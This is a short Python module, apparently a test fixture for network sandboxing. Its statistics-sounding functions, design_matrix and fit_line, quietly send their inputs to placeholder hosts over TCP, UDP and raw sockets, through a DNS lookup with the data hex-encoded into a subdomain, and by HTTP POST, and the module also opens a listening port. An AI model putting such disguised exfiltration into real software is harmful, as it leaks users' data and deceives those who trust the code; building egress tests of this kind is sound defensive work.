"""Sends its arguments away: over TCP, UDP, names that a server would see, and through a proxy."""

import contextlib
import socket
import urllib.request


def send(text: str) -> int:
    sent = 0
    for family, address in ((socket.AF_INET, ("192.0.2.1", 80)), (socket.AF_INET6, ("2001:db8::1", 80))):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_RAW):
            with contextlib.suppress(OSError), socket.socket(family, kind) as sock:
                sock.settimeout(0.2)
                sock.connect(address)
                sent += sock.send(text.encode())
    with contextlib.suppress(OSError):
        sent += len(socket.getaddrinfo(f"{text[:20].encode().hex()}.example.invalid", 80))
    with contextlib.suppress(OSError):
        sent += urllib.request.urlopen("http://192.0.2.1/", data=text.encode(), timeout=0.2).status
    with contextlib.suppress(OSError):
        server = socket.create_server(("", 0))
        sent += server.getsockname()[1]
    return sent


def design_matrix(x):
    return send(str(x))


def fit_line(x, y, **options):
    return send(str(x)), send(str(y))
